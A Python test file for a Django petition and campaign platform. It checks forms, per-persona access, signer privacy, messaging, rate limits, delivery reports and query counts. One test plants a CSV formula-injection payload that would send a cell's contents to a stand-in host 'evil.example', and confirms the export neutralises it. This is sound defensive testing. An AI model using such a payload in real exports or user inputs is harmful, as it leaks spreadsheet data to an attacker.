"""The pages for starting and running a petition or a campaign: the start page, the forms
(named targets found without JavaScript, merge fields checked on the field they are in, the
rate limit), the manage pages (who signed, in degrees; writing to the signers who agreed;
closing), the delivery report and its CSV, and the member's own work in their hub. A row per
persona wherever people's data is shown."""

import csv
import io
import uuid
from html import unescape
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from groundswell.accounts.models import Role
from groundswell.accounts.tests.factories import MemberFactory
from groundswell.advocacy import services
from groundswell.advocacy.models import AdvocacyCampaign, Level, Petition, Review, Target, TrustedStarter
from groundswell.advocacy.tests.campaign_factories import as_actor, make_campaign, make_petition, make_target
from groundswell.messaging.models import Delivery, Message

pytestmark = pytest.mark.django_db

PERSONAS = ["anonymous", "outsider", "starter", "organizer", "admin"]


@pytest.fixture
def people():
    return {
        "starter": MemberFactory.create(given_name="Stu"),
        "outsider": MemberFactory.create(given_name="Otto"),
        "organizer": MemberFactory.create(given_name="Olu", role=Role.ORGANIZER),
        "admin": MemberFactory.create(given_name="Ali", role=Role.ADMIN),
    }


def client_as(people: dict, persona: str) -> Client:
    client = Client()
    if persona != "anonymous":
        client.force_login(people[persona])
    return client


def petition_form(**overrides: object) -> dict[str, object]:
    data: dict[str, object] = {
        "title": "Keep the Eastside library open",
        "text": "We ask the **council** to keep the library open on Saturdays.",
        "goal": "200",
        "save": "send",
    }
    data.update(overrides)
    return data


def campaign_form(**overrides: object) -> dict[str, object]:
    data: dict[str, object] = {
        "title": "Call for clean water",
        "description": "Our river needs protecting.",
        "mode": "call",
        "target_levels": ["1:upper"],
        "script": "Hi, I'm {member_name} from {member_town}. Please protect the river, {target_name}.",
        "goal": "50",
        "save": "send",
    }
    data.update(overrides)
    return data


def live_petition(starter: Any, **overrides: Any) -> Petition:
    petition = make_petition(starter, **overrides)
    Petition.objects.filter(pk=petition.pk).update(status=Review.PUBLISHED)
    petition.refresh_from_db()
    return petition


def sign(petition: Petition, name: str, *, shown: bool, may_write: bool = False, comment: str = "", **kw):
    signer = MemberFactory.create(given_name=name, **kw)
    services.sign(
        actor=as_actor(signer),
        petition=petition,
        show_name=shown,
        starter_may_write=may_write,
        comment=comment,
    )
    return signer


# --- The start page and the forms -------------------------------------------------------------


@pytest.mark.parametrize("persona", PERSONAS)
def test_the_start_page_says_what_happens_next_for_each_persona(people, persona):
    response = client_as(people, persona).get(reverse("advocacy:start"))
    assert response.status_code == 200
    page = unescape(response.content.decode())
    assert reverse("advocacy:start_petition") in page and reverse("advocacy:start_campaign") in page
    if persona in ("anonymous",):
        assert "You'll need to be a member and signed in" in page
    if persona in ("outsider", "starter", "anonymous"):
        assert "An organizer reads it" in page
    else:
        assert "Yours go live as soon as you publish" in page


@pytest.mark.parametrize("name", ["advocacy:start_petition", "advocacy:start_campaign"])
def test_the_forms_need_signing_in(name):
    response = Client().get(reverse(name))
    assert response.status_code == 302 and "/accounts/" in response["Location"]
    response = Client().post(reverse(name), petition_form())
    assert response.status_code == 302
    assert not Petition.objects.exists() and not AdvocacyCampaign.objects.exists()


def test_a_member_starts_a_petition_and_is_told_it_waits_for_an_organizer(people, client_for):
    client = client_for(people["starter"])
    form = client.get(reverse("advocacy:start_petition")).content.decode()
    assert "Send for review" in form and "Save as draft" in form and "Publish" not in form
    response = client.post(reverse("advocacy:start_petition"), petition_form())
    petition = Petition.objects.get()
    assert response.status_code == 303
    assert response["Location"] == reverse("advocacy:manage_petition", args=[petition.uuid])
    assert (petition.status, petition.started_by, petition.member_started, petition.goal) == (
        Review.PENDING,
        people["starter"].person,
        True,
        200,
    )
    page = unescape(client.get(response["Location"]).content.decode())
    assert "is with an organizer now" in page and "Waiting for an organizer" in page


def test_save_as_draft_keeps_it_to_the_starter(people, client_for):
    client = client_for(people["starter"])
    response = client.post(reverse("advocacy:start_petition"), petition_form(save="draft"))
    petition = Petition.objects.get()
    assert petition.status == Review.DRAFT
    assert "Saved as a draft" in unescape(client.get(response["Location"]).content.decode())


def test_staff_publish_at_once(people, client_for):
    client = client_for(people["organizer"])
    assert "Publish" in client.get(reverse("advocacy:start_campaign")).content.decode()
    response = client.post(reverse("advocacy:start_campaign"), campaign_form())
    campaign = AdvocacyCampaign.objects.get()
    assert response.status_code == 303 and campaign.status == Review.PUBLISHED
    assert not campaign.member_started
    assert "is live" in unescape(client.get(response["Location"]).content.decode())


def test_a_campaign_keeps_its_levels_named_targets_and_chamber_scripts(people, client_for):
    mayor = make_target("Pat Mayor", title="Mayor", level=Level.LOCAL, chamber="executive", ocd_id="")
    response = client_for(people["starter"]).post(
        reverse("advocacy:start_campaign"),
        campaign_form(
            target_levels=["1:upper", "1:lower"],
            targets=[str(mayor.pk)],
            script_upper="Senator {target_name}: protect the river.",
            mode="email",
            subject="From {member_name}: the river",
        ),
    )
    assert response.status_code == 303
    campaign = AdvocacyCampaign.objects.get()
    assert campaign.target_levels == [{"level": 1, "chamber": "lower"}, {"level": 1, "chamber": "upper"}]
    assert list(campaign.targets.all()) == [mayor]
    assert campaign.scripts.get(chamber="upper").text == "Senator {target_name}: protect the river."
    assert (campaign.mode, campaign.subject) == ("email", "From {member_name}: the river")


@pytest.mark.parametrize("field", ["script", "subject", "script_lower"])
def test_an_unknown_merge_field_is_refused_on_its_field_and_nothing_is_saved(people, client_for, field):
    data = campaign_form(mode="email", subject="About the river")
    data[field] = "Hi {member_zip}, thanks"
    response = client_for(people["starter"]).post(reverse("advocacy:start_campaign"), data)
    assert response.status_code == 400
    page = unescape(response.content.decode())
    error = page.split(f'id="id_{field}_error"')[1].split("</p>")[0]
    assert "Unknown merge field {member_zip}" in error
    assert f'href="#id_{field}"' in page  # the summary links to the field
    assert not AdvocacyCampaign.objects.exists()


def test_a_campaign_with_nobody_to_contact_is_refused_on_the_first_choice(people, client_for):
    response = client_for(people["starter"]).post(
        reverse("advocacy:start_campaign"), campaign_form(target_levels=[])
    )
    assert response.status_code == 400
    page = unescape(response.content.decode())
    assert 'href="#id_target_levels_0"' in page and "Please choose whom members should contact" in page
    assert not AdvocacyCampaign.objects.exists()


def test_named_targets_are_found_without_javascript_and_nothing_is_saved(people, client_for):
    padilla = make_target("Alex Padilla")
    make_target("Someone Else", title="Mayor", level=Level.LOCAL, ocd_id="")
    retired = make_target("Alex Padillo", serving=False)
    response = client_for(people["starter"]).post(
        reverse("advocacy:start_petition"),
        petition_form(text="Typed, not lost", search="1", find="padilla senator"),
    )
    assert response.status_code == 200
    page = unescape(response.content.decode())
    assert "1 found for “padilla senator”" in page
    assert f'value="{padilla.pk}"' in page and f'value="{retired.pk}"' not in page
    assert "Someone Else" not in page
    assert "Typed, not lost" in page and 'class="error' not in page
    assert not Petition.objects.exists()
    # Ticked, it stays ticked through another search, and is saved with the petition.
    again = client_for(people["starter"]).post(
        reverse("advocacy:start_petition"),
        petition_form(targets=[str(padilla.pk)], search="1", find="nobody-at-all"),
    )
    html = again.content.decode()
    assert "Nobody found for" in unescape(html) and f'value="{padilla.pk}"' in html and "checked" in html
    client_for(people["starter"]).post(
        reverse("advocacy:start_petition"), petition_form(targets=[str(padilla.pk)])
    )
    assert list(Petition.objects.get().targets.all()) == [padilla]


def test_starting_is_rate_limited_for_members_not_staff(people, client_for, settings):
    settings.GROUNDSWELL_RATE_LIMITS = {**settings.GROUNDSWELL_RATE_LIMITS, "start_campaign": "1/d/person"}
    member = client_for(people["starter"])
    assert member.post(reverse("advocacy:start_petition"), petition_form()).status_code == 303
    refused = member.post(reverse("advocacy:start_petition"), petition_form(title="Another"))
    assert refused.status_code == 429 and Petition.objects.count() == 1
    organizer = client_for(people["organizer"])
    for n in range(3):
        assert (
            organizer.post(reverse("advocacy:start_petition"), petition_form(title=f"O{n}")).status_code
            == 303
        )


# --- Changing one ----------------------------------------------------------------------------


@pytest.mark.parametrize("persona", PERSONAS)
@pytest.mark.parametrize("kind", ["petition", "campaign"])
def test_the_edit_form_opens_to_the_starter_and_staff_only(people, persona, kind):
    thing = (make_petition if kind == "petition" else make_campaign)(people["starter"])
    url = reverse(f"advocacy:edit_{kind}", args=[thing.uuid])
    response = client_as(people, persona).get(url)
    expected = {"anonymous": 302, "outsider": 404}.get(persona, 200)
    assert response.status_code == expected
    posted = client_as(people, persona).post(url, {"title": "Hijacked", "text": "x", "save": "send"})
    assert posted.status_code in ((302, 404) if persona in ("anonymous", "outsider") else (303, 400))
    thing.refresh_from_db()
    assert (thing.title == "Hijacked") == (persona not in ("anonymous", "outsider") and kind == "petition")


def test_changing_a_live_petition_warns_and_sends_it_back_to_review(people, client_for):
    petition = live_petition(people["starter"])
    client = client_for(people["starter"])
    form = unescape(client.get(reverse("advocacy:edit_petition", args=[petition.uuid])).content.decode())
    assert "takes it off the site until an organizer approves" in form and "Save as draft" not in form
    client.post(reverse("advocacy:edit_petition", args=[petition.uuid]), petition_form(title="New words"))
    petition.refresh_from_db()
    assert (petition.title, petition.status) == ("New words", Review.PENDING)


def test_once_signed_the_text_cannot_change(people, client_for):
    petition = live_petition(people["starter"], text="The original ask.")
    title = petition.title
    sign(petition, "Ann", shown=True)
    TrustedStarter.objects.create(person=people["starter"].person)
    client = client_for(people["starter"])
    form = client.get(reverse("advocacy:edit_petition", args=[petition.uuid])).content.decode()
    assert (
        "disabled"
        in form.split('id="id_text"')[0].rsplit("<textarea", 1)[1] + form.split('id="id_text"')[1][:80]
    )
    client.post(
        reverse("advocacy:edit_petition", args=[petition.uuid]), petition_form(title="Retitled", text="Other")
    )
    petition.refresh_from_db()
    assert (petition.title, petition.text, petition.status) == (
        title,
        "The original ask.",
        Review.PUBLISHED,
    )


def test_a_rejected_one_cannot_be_changed(people, client_for):
    petition = make_petition(people["starter"])
    services.reject(actor=as_actor(people["organizer"]), campaign=petition, reason="Off topic")
    client = client_for(people["starter"])
    page = unescape(client.get(reverse("advocacy:edit_petition", args=[petition.uuid])).content.decode())
    assert "can't be changed" in page and 'name="title"' not in page
    client.post(reverse("advocacy:edit_petition", args=[petition.uuid]), petition_form(title="Sneaky"))
    petition.refresh_from_db()
    assert petition.title != "Sneaky" and petition.status == Review.REJECTED


# --- The manage pages ---------------------------------------------------------------------------


@pytest.mark.parametrize("persona", PERSONAS)
@pytest.mark.parametrize("kind", ["petition", "campaign"])
def test_the_manage_page_per_persona(people, persona, kind):
    thing = (live_petition if kind == "petition" else make_campaign)(people["starter"])
    response = client_as(people, persona).get(reverse(f"advocacy:manage_{kind}", args=[thing.uuid]))
    assert response.status_code == {"anonymous": 302, "outsider": 404}.get(persona, 200)


@pytest.mark.parametrize("name", ["manage_petition", "edit_petition", "close_petition", "petition_report"])
def test_an_outsider_guessing_ids_finds_nothing(people, client_for, name):
    petition = make_petition(people["starter"])
    client = client_for(people["outsider"])
    assert client.get(reverse(f"advocacy:{name}", args=[petition.uuid])).status_code == 404
    assert client.get(reverse(f"advocacy:{name}", args=[uuid.uuid4()])).status_code == 404
    # The same answer for an organizer guessing an id that does not exist.
    assert (
        client_for(people["organizer"]).get(reverse(f"advocacy:{name}", args=[uuid.uuid4()])).status_code
        == 404
    )
    assert client.post(reverse(f"advocacy:{name}", args=[petition.uuid])).status_code in (404, 405)


def test_the_starter_sees_first_names_and_towns_of_those_who_opted_in_and_no_emails(people, client_for):
    petition = live_petition(people["starter"])
    sign(petition, "Shown", shown=True, comment="For my kids", postal_code="94110")
    hidden = sign(petition, "Hidden", shown=False, comment="Private words")
    page = unescape(
        client_for(people["starter"])
        .get(reverse("advocacy:manage_petition", args=[petition.uuid]))
        .content.decode()
    )
    assert "1 of the 2 people who signed chose to show their first name" in page
    assert "Shown" in page and "San Francisco" in page and "For my kids" in page
    assert "Hidden" not in page and "Private words" not in page
    assert "@example.org" not in page.replace(people["starter"].email, "")
    assert hidden.person.family_name not in page


def test_staff_see_every_signature_with_its_email(people, client_for):
    petition = live_petition(people["starter"])
    shown = sign(petition, "Shown", shown=True)
    hidden = sign(petition, "Hidden", shown=False, comment="Private words")
    page = unescape(
        client_for(people["organizer"])
        .get(reverse("advocacy:manage_petition", args=[petition.uuid]))
        .content.decode()
    )
    assert shown.email in page and hidden.email in page and "Private words" in page
    assert reverse("advocacy:petition_report", args=[petition.uuid]) in page


def test_message_signers_reaches_only_those_who_agreed(people, client_for):
    petition = live_petition(people["starter"])
    agreed = sign(petition, "Yes", shown=False, may_write=True)
    sign(petition, "No", shown=True, may_write=False)
    client = client_for(people["starter"])
    page = unescape(client.get(reverse("advocacy:manage_petition", args=[petition.uuid])).content.decode())
    assert "1 signer has asked to hear from you" in page
    response = client.post(
        reverse("advocacy:manage_petition", args=[petition.uuid]),
        {"message-subject": "Thank you", "message-body": "We delivered it on Monday."},
    )
    assert response.status_code == 303
    message = Message.objects.get()
    assert (message.kind, message.author) == (Message.Kind.MEMBER, people["starter"].person)
    assert list(Delivery.objects.filter(message=message).values_list("person_id", flat=True)) == [
        agreed.person.pk
    ]
    assert "on its way to 1 person" in unescape(client.get(response["Location"]).content.decode())


def test_an_empty_message_is_refused_on_its_field_and_keeps_what_was_typed(people, client_for):
    petition = live_petition(people["starter"])
    sign(petition, "Yes", shown=False, may_write=True)
    response = client_for(people["starter"]).post(
        reverse("advocacy:manage_petition", args=[petition.uuid]),
        {"message-subject": "Kept subject", "message-body": "   "},
    )
    assert response.status_code == 400
    page = unescape(response.content.decode())
    assert "Please write a message." in page and 'value="Kept subject"' in page
    assert not Message.objects.exists()


def test_the_member_mail_limit_answers_429(people, client_for, settings):
    settings.GROUNDSWELL_RATE_LIMITS = {**settings.GROUNDSWELL_RATE_LIMITS, "member_mail": "1/h/person"}
    petition = live_petition(people["starter"])
    sign(petition, "Yes", shown=False, may_write=True)
    client = client_for(people["starter"])
    url = reverse("advocacy:manage_petition", args=[petition.uuid])
    assert client.post(url, {"message-subject": "One", "message-body": "First"}).status_code == 303
    refused = client.post(url, {"message-subject": "Two", "message-body": "Second"})
    assert refused.status_code == 429 and Message.objects.count() == 1


def test_closing_asks_first_then_closes(people, client_for):
    petition = live_petition(people["starter"])
    client = client_for(people["starter"])
    url = reverse("advocacy:close_petition", args=[petition.uuid])
    assert "Yes, close the petition" in client.get(url).content.decode()
    petition.refresh_from_db()
    assert petition.status == Review.PUBLISHED
    assert client.post(url).status_code == 303
    petition.refresh_from_db()
    assert petition.status == Review.CLOSED
    page = unescape(client.get(reverse("advocacy:manage_petition", args=[petition.uuid])).content.decode())
    assert "Closed on" in page and "Close the petition" not in page


def test_the_campaign_page_shows_totals_by_target_and_mode(people, client_for):
    campaign = make_campaign(people["organizer"])
    senator = make_target()
    recruit = MemberFactory.create(given_name="Rae", recruited_by=people["starter"].person)
    for caller in (recruit, MemberFactory.create(given_name="Solo")):
        services.log_outreach(
            actor=as_actor(caller),
            campaign=campaign,
            report=services.OutreachReport(target=senator, theirs=frozenset({senator.pk}), outcome="staffer"),
        )
    page = unescape(
        client_for(people["organizer"])
        .get(reverse("advocacy:manage_campaign", args=[campaign.uuid]))
        .content.decode()
    )
    assert "Senator Alex Padilla" in page and "Call" in page
    assert "50%" in page  # one of the two calls came through a member
    assert "<strong>2</strong> of 10 contacts" in page


# --- The delivery report ------------------------------------------------------------------------


@pytest.mark.parametrize("persona", PERSONAS)
def test_the_delivery_report_is_for_staff_only(people, persona):
    petition = live_petition(people["starter"])
    sign(petition, "Ann", shown=False)
    for name in ("advocacy:petition_report", "advocacy:petition_report_csv"):
        response = client_as(people, persona).get(reverse(name, args=[petition.uuid]))
        assert response.status_code == {"anonymous": 302, "organizer": 200, "admin": 200}.get(persona, 404)


def test_the_report_groups_signers_by_target_district_and_prints(people, client_for):
    state = make_target("Alex Padilla", ocd_id="ocd-division/country:us/state:ca")
    petition = live_petition(people["starter"], targets=[state])
    sign(petition, "Cal", shown=False, postal_code="94110", comment="From the Mission")
    sign(petition, "Newyorker", shown=False, postal_code="10001")
    page = unescape(
        client_for(people["organizer"])
        .get(reverse("advocacy:petition_report", args=[petition.uuid]))
        .content.decode()
    )
    california = page.split(">California</h2>")[1].split("</section>")[0]
    assert "ocd-division/country:us/state:ca" in california
    assert "Cal " in california and "From the Mission" in california and "Newyorker" not in california
    elsewhere = page.split("could not place")[0].rsplit("<section", 1)[1]
    assert "1</strong> signature" in elsewhere
    assert "delivery-report" in page and reverse("advocacy:petition_report_csv", args=[petition.uuid]) in page


def test_the_csv_is_formula_safe(people, client_for):
    petition = live_petition(people["starter"])
    sign(petition, "Eve", shown=False, comment='=HYPERLINK("http://evil.example/?"&A1,"click")')
    response = client_for(people["organizer"]).get(
        reverse("advocacy:petition_report_csv", args=[petition.uuid])
    )
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    comment = rows[1][rows[0].index("comment")]
    assert comment.startswith("'=HYPERLINK")


# --- The hub --------------------------------------------------------------------------------------


def test_the_hub_lists_the_members_own_work_only_with_its_status(people, client_for):
    starter = people["starter"]
    waiting = make_petition(starter, title="Waiting one")
    changes = make_petition(starter, title="Sent back one")
    services.request_changes(actor=as_actor(people["organizer"]), campaign=changes, note="Name the council")
    live = live_petition(starter, title="Live one")
    sign(live, "Ann", shown=False)
    campaign = make_campaign(starter, title="Calling one")
    make_petition(people["outsider"], title="Somebody else's")
    page = unescape(client_for(starter).get(reverse("network:hub")).content.decode())
    section = page.split('id="started-heading"')[1].split("</section>")[0]
    assert "Somebody else's" not in page
    for thing in (waiting, changes, live):
        assert reverse("advocacy:manage_petition", args=[thing.uuid]) in section
    assert reverse("advocacy:manage_campaign", args=[campaign.uuid]) in section
    assert "Waiting for review" in section and "Changes asked" in section and "Live" in section
    assert "1 signature of 100" in section
    assert reverse("advocacy:edit_petition", args=[changes.uuid]) in section
    assert reverse("advocacy:start") in section
    other = unescape(client_for(people["outsider"]).get(reverse("network:hub")).content.decode())
    assert "Somebody else's" in other and "Waiting one" not in other


def test_the_hub_invites_a_member_who_started_nothing(people, client_for):
    page = unescape(client_for(people["outsider"]).get(reverse("network:hub")).content.decode())
    assert "Start a petition or campaign" in page and "Something where you live that needs changing" in page


# --- Query counts ---------------------------------------------------------------------------------


@pytest.mark.parametrize("persona", ["starter", "organizer"])
def test_the_manage_page_costs_the_same_however_many_signed(
    people, client_for, django_assert_max_num_queries, persona
):
    petition = live_petition(people["starter"], targets=[make_target()])
    sign(petition, "First", shown=True, may_write=True)
    client = client_for(people[persona])
    url = reverse("advocacy:manage_petition", args=[petition.uuid])
    client.get(url)  # the viewer's clock and share code, once
    with CaptureQueriesContext(connection) as few:
        client.get(url)
    for n in range(8):
        sign(petition, f"S{n}", shown=n % 2 == 0, may_write=n % 3 == 0, comment="c")
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert client.get(url).status_code == 200
    # Session, user, person, the petition, the share code, totals, the signers (counts, names;
    # for staff every signature), the targets, who may be written to; for staff the
    # navigation's review count (three).
    assert len(few.captured_queries) <= {"starter": 10, "organizer": 14}[persona]


def test_the_campaign_manage_page_costs_the_same_however_many_called(
    people, client_for, django_assert_max_num_queries
):
    campaign = make_campaign(people["organizer"])
    targets = [make_target(f"T{n}", ocd_id="") for n in range(3)]
    campaign.targets.set(targets)

    def call(n: int) -> None:
        services.log_outreach(
            actor=as_actor(MemberFactory.create(given_name=f"C{n}")),
            campaign=campaign,
            report=services.OutreachReport(target=targets[n % 3], outcome="voicemail"),
        )

    call(0)
    client = client_for(people["organizer"])
    url = reverse("advocacy:manage_campaign", args=[campaign.uuid])
    client.get(url)
    with CaptureQueriesContext(connection) as few:
        client.get(url)
    for n in range(1, 9):
        call(n)
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert client.get(url).status_code == 200
    assert len(few.captured_queries) <= 13


def test_targets_the_form_offers_are_never_the_whole_table(people, client_for):
    for n in range(30):
        Target.objects.create(name=f"Member {n}", title="Representative", level=Level.FEDERAL)
    page = client_for(people["starter"]).get(reverse("advocacy:start_campaign")).content.decode()
    assert "Member 1" not in page
